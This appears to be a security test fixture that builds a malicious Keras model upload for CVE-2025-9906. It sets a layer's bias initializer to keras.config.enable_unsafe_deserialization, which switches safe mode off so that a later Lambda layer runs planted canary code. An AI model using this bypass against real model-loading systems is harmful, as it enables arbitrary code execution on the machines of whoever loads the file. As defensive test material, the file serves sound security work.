"""A configuration that switches safe mode off before the Lambda behind it is read (CVE-2025-9906)."""

from __future__ import annotations

import keras

from tests.attacks.canaries import Canaries
from tests.attacks.kit import LIBRARY, Attack, Upload
from tests.attacks.making import PLANTS, edited, first_layer, function, model_of, saved

ATTACK = Attack(
    "switch safe mode off from an initializer, then run a Lambda", "model_unsafe", LIBRARY,
    ("enable_unsafe_deserialization", "`opener`"),
)  # fmt: skip


def make(canaries: Canaries) -> Upload:
    opener = keras.layers.Dense(4, name="opener")
    sneak = keras.layers.Lambda(function(PLANTS, canaries), output_shape=(4,), name="sneak")

    def change(config: dict[str, object]) -> None:
        first_layer(config)["config"]["bias_initializer"] = {
            "module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {},
            "registered_name": None,
        }  # fmt: skip

    return Upload(edited(change, saved(model_of(opener, sneak))))
